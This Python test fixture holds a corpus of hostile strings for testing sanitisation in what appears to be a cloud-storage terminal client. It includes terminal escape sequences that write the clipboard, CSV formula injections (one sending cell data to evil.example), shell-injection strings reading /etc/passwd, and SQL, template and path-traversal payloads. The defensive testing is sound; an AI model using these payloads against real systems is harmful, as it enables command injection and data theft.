"""Texts that want to be more than text, and the ways by which they come out: one corpus for all tests.

`HOSTILE` are those that a cloud may hold as a name, a description or a status. `HUGE` are longer than any text that is
taken (`models.MOST_TEXT`): they cost their field. `WAYS_IN` and `WAYS_OUT` name what the tests push them through; each
test says by `walks` which of them it was, so that ``python tests/hostile_report.py`` can count.
"""

from collections.abc import Callable, Iterator, Mapping
from types import MappingProxyType
from typing import TypeVar

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

MARKUP = {
    "closing tag": "[/x]",
    "style": "[red]gone[/red]",
    "action": "[@click=app.quit]x[/]",
    "action with arguments": "[@click=app.notify('owned')]x[/]",
    "link": "[link=https://evil.example]x[/link]",
    "variable": "[$error]x",
    "open": "[bold",
    "backslash": "a\\[b]\\",
    "rich emoji": ":skull: [blink]x",
    "hidden": "[black on black]rm[/] [not visible]x",
}
TERMINAL = {
    "escape": f"{ESC}[31mred{ESC}[0m",
    "clipboard": f"{ESC}]52;c;cm0gLXJmIC8={BEL}",
    "clipboard asked": f"{ESC}]52;c;?{ST}",
    "title": f"{ESC}]0;owned{ST}",
    "title by bell": f"{ESC}]2;owned{BEL}",
    "title asked": f"{ESC}[21t{ESC}[20t",
    "hyperlink": f"{ESC}]8;;https://evil.example{ST}x{ESC}]8;;{ST}",
    "colours": f"{ESC}]4;1;rgb:ff/ff/ff{ST}{ESC}]11;#000000{BEL}",
    "download": f"{ESC}]1337;File=name=eA==;inline=1:AAAA{BEL}",
    "notification": f"{ESC}]9;owned{BEL}{ESC}]777;notify;a;b{BEL}",
    "screen cleared": f"{ESC}[2J{ESC}[3J{ESC}[H",
    "cursor moved": f"{ESC}[10;10Hx{ESC}[5A\x08\x08",
    "reset": f"{ESC}c{ESC}[!p",
    "other screen": f"{ESC}[?1049h{ESC}[?1049l{ESC}[?25l",
    "mouse and paste": f"{ESC}[?1003h{ESC}[?2004h",
    "answers asked": f"{ESC}[6n{ESC}[c{ESC}[>c{ESC}Z\x05",
    "keys said": f"{ESC}[13~\r{ESC}[200~D\r{ESC}[201~",
    "status string": f'{ESC}P$q"p{ST}{ESC}P+q544e{ST}',
    "sixel": f"{ESC}Pq#0;2;0;0;0~-{ST}",
    "application": f"{ESC}_Ga=T;AAAA{ST}{ESC}^private{ST}{ESC}Xstart{ST}",
    "tmux passthrough": f"{ESC}Ptmux;{ESC}{ESC}]52;c;eA=={BEL}{ST}",
    "other letters": f"{ESC}(0lqqk{ESC}(B\x0e\x0f",
    "c1": "\x9b31mred\x9d0;x\x9c",
    "c1 clipboard": "\x9d52;c;cm0=\x9c",
    "c1 strings": "\x90q\x9c\x9fG\x9c\x9ex\x9c\x98y\x9c\x84\x85\x8d",
    "c1 as the bytes of UTF-8": "\xc2\x9b31m",
    "half an escape": ESC,
    "bells": BEL * 5,
}
UNICODE = {
    "bidi": "\u202egnp.exe\u2066x\u2069",
    "bidi marks": "\u200fabc\u061c\u200e\u2067x\u2068y",
    "invisible": "a\u200bb\ufeffc\u00add\u3164e",
    "joiners": "a\u200cb\u200dc\u2060d\u180ee",
    "tags": "x\U000e0041\U000e0042\U000e007f",
    "variation": "x\ufe0f\ufe0e\U000e0100",
    "nul": "a\x00b\x7fc",
    "lines": "one\ntwo\r\nthree\u2028four\vfive\x85six\u2029seven\fend",
    "tab": "a\tb",
    "blanks of all kinds": "a\u00a0b\u2003c\u3000d\u202fe\u1680f",
    "blank": "   ",
    "wide": "한" * 255,
    "jamo": "\u1112\u1161\u11ab" * 40,
    "loose jamo": "\u1161\u11ab\u1112" * 9,
    "overlong jamo": "\u1100" * 30 + "\u1161" * 30 + "\u11a8" * 30,
    "combining": "e" + "\u0301" * 60,
    "tower": "".join(f"{char}{''.join(map(chr, range(0x300, 0x340)))}" for char in "tower"),
    "mark alone": "\u0301\u20dd\u0e31",
    "emoji": "👨‍👩‍👧 ❤️ 🇰🇷",
    "ambiguous": "±×÷°§¶…—‘’“”①②③★☆○●◎◇◆",
    "thai": "กำลังทดสอบ",
    "arabic": "اختبار שלום",
    "surrogate": "\ud800x",
    "surrogates the wrong way round": "\udc00x\ud800",
    "bytes that are no text": "\udcff\udcfe",
    "private": "\ue000\uf8ff\U0010fffd",
    "no characters": "\ufffe\uffff\ufdd0\U0001ffff",
    "interlinear": "\ufff9a\ufffab\ufffb\ufffd",
    "looks like another": "аdmin-рrod",
    "long": "n" * 255,
    "as long as any": "0123456789abcdef" * 256,
}
SHEETS = {
    "formula": "=cmd|'/c calc'!A0",
    "formula with a link": '=HYPERLINK("https://evil.example?x="&A1,"ok")',
    "formula by plus": "+1+cmd|' /C calc'!A0",
    "formula by minus": "-2+3+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula behind a return": "\r=1+1",
    "formula behind a line": "\n=1+1",
    "formula, full width": "＝1＋1",
    "plus, full width": "＋1",
    "minus, full width": "－1",
    "at, full width": "＠SUM(1)",
    "formula behind a quote": '"=1+1',
    "formula behind quote and comma": 'x","=1+1',
    "formula in a new row": 'x"\n=1+1,"',
    "formula behind a semicolon": "x;=1+1",
}
SHELL = {
    "command": "$(touch owned)",
    "backticks": "`touch owned`",
    "single quotes": "it's 'quoted'",
    "single quotes closed": "'\\''; touch owned; '",
    "double quotes": '"; touch owned; "',
    "new command": "x; touch owned",
    "new line": "x\ntouch owned\n",
    "pipe": "x | touch owned & y && z || w",
    "redirect": "> owned < /etc/passwd",
    "variables": "$HOME ${PATH} $TOKEN $$ $?",
    "history": "!! !$ !-1",
    "globs": "* ? [a-z] {a,b} ~root",
    "comment": "# x",
    "option": "--data @/etc/passwd",
    "option for output": "-o /etc/passwd",
    "curl config": "-K- url=file:///etc/passwd",
    "powershell": "$(Get-Content x); `whoami`",
    "cmd": "%PATH% ^& calc",
}
FORMATS = {
    "percent": "%s %d %n %(x)s %",
    "braces": "{0} {} {x.__class__.__mro__}",
    "braces that name ours": "{name} {n:,} {reason} {location}",
    "brace alone": "{",
    "gettext": "%(n)d volume|%(n)d volumes\x04context",
    "header of a catalog": "Content-Type: text/plain; charset=UTF-7\n",
    "template": "${x} #{x} {{7*7}} <%= 7 %>",
    "html": "<script>alert(1)</script>&lt;b&gt;",
    "json": '"},"x":{"y":"',
    "filter": 'name:x status:error !size>1 "',
    "toml": 'x"\n[profile.evil]\npassword = "y',
    "sql": "'; DROP TABLE volumes; --",
}
PATHS = {
    "up": "../../etc/passwd",
    "up, written in percent": "%2e%2e%2f%2e%2e%2fetc",
    "a part and a query": "a/b?c#d",
    "absolute": "/etc/passwd",
    "of another host": "https://evil.example/x",
    "drive": "C:\\Windows\\System32",
    "dots": "..",
    "home": "~/.ssh/id_rsa",
    "device": "/dev/tty",
    "header": "x\r\nx-evil: 1",
}

#: What a cloud may hold as a name: name of the text -> text.
HOSTILE: Mapping[str, str] = MappingProxyType(MARKUP | TERMINAL | UNICODE | SHEETS | SHELL | FORMATS | PATHS)
#: Longer than what is taken.
HUGE: Mapping[str, str] = MappingProxyType(
    {
        "a megabyte": "n" * (1 << 20),
        "a megabyte of escapes": f"{ESC}[31m" * (1 << 18),
        "a megabyte of wide ones": "한" * (1 << 20),
        "a megabyte of marks": "e" + "\u0301" * (1 << 20),
        "a megabyte of jamo": "\u1112\u1161\u11ab" * (1 << 18),
    }
)

#: Where in the cloud, or by whom, they are written.
WAYS_IN = (
    "name of a volume",
    "description of a volume",
    "status of a volume",
    "zone of a volume",
    "key of metadata",
    "value of metadata",
    "type of a volume",
    "name of a type",
    "name of a snapshot",
    "description of a snapshot",
    "status of a snapshot",
    "server of an attachment",
    "device of an attachment",
    "name of an instance",
    "name of an image",
    "name of a zone",
    "name of a tenant",
    "name of a region",
    "words of an error",
    "id of a request",
    "typed into a filter",
    "typed into a form",
    "saved filter",
    "name of a profile",
    "entry of the journal",
    "argument of the command line",
)
#: Where a person or a program meets them.
WAYS_OUT = (
    "views and dialogs",
    "detail",
    "raw view",
    "table lines",
    "notice",
    "one-line answer",
    "title",
    "requests",
    "journal",
    "export as CSV",
    "export as JSON",
    "export of the journal",
    "preview of a request",
    "preview in a shell",
    "clipboard",
    "pickers",
    "saved filters",
    "crash report",
    "commands: table",
    "commands: CSV",
    "commands: JSON",
    "commands: status",
    "commands: show",
    "commands: doctor",
    "commands: error",
    "terminal of the explorer",
    "terminal of the commands",
)

T = TypeVar("T")


def walks(*ways: str) -> Callable[[T], T]:
    """Says of a test which ways it pushes all of `HOSTILE` through."""
    unknown = set(ways) - {*WAYS_IN, *WAYS_OUT}
    assert not unknown, unknown
    return lambda test: test


def spread(count: int) -> Iterator[tuple[str, ...]]:
    """All of `HOSTILE`, `count` at a time, so that a row that has as many fields carries as many; the last ones begin
    anew."""
    texts = list(HOSTILE.values())
    for start in range(0, len(texts), count):
        yield tuple(texts[(start + place) % len(texts)] for place in range(count))
